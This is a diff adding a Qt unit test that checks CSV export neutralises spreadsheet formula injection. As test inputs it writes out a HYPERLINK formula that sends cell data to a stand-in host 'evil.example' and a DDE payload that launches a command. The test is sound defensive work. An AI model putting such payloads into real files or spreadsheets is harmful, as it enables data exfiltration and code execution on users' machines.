@@ -495,6 +495,22 @@ private slots:
         QVERIFY(back->first().record.profile.unknownFields.isEmpty());
     }
 
+    void csvCellsASpreadsheetWouldRunAreNeutralised()
+    {
+        // A model's answer or an imported file can put a formula where a caption goes.
+        HistoryEntry entry = fullEntry();
+        entry.record.script.caption = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")");
+        entry.record.title = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
+        const QByteArray csv = toCsv({entry});
+        QVERIFY(csv.contains("\"'=HYPERLINK("));
+        QVERIFY(!csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"));
+        QVERIFY(csv.contains("'@SUM(1+1)"));
+        const QList<QStringList> rows = parseCsv(csv);
+        const QStringList header = rows.at(0);
+        QCOMPARE(rows.at(1).value(header.indexOf(QStringLiteral("caption"))), entry.record.script.caption);
+        QCOMPARE(rows.at(1).value(header.indexOf(QStringLiteral("title"))), entry.record.title);
+    }
+
     void csvParsesBackToTheSameFields()
     {
         const HistoryEntry entry = fullEntry();
